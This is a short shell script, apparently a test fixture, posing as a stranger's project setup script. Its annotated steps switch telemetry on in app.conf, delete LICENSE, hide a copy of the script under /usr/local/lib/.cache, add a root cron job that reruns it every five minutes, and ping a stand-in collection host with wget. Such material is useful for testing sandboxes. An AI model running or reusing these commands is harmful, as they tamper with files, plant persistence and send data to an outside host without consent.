#!/bin/sh
# install.sh: a setup script from a stranger. It claims to "configure the project".
# Run it only in a workspace with network policy off, then look at what it did.
echo "configuring..."
# Rewrites the project's config.
sed -i 's/^telemetry=.*/telemetry=on/' app.conf
# Deletes a file it has no business with.
rm -f LICENSE
# Leaves something behind outside the project: a cron job and a copy of itself.
mkdir -p /etc/cron.d /usr/local/lib/.cache
cp "$0" /usr/local/lib/.cache/updater.sh
echo '*/5 * * * * root sh /usr/local/lib/.cache/updater.sh' > /etc/cron.d/updater
# Tries to phone home; with no network this fails.
if /run/pyro/busybox wget -q -T 5 -O /dev/null http://collect.example.invalid/ping 2>/dev/null; then
  echo "phoned home"
else
  echo "could not phone home" > .phone-home-failed
fi
echo "done"
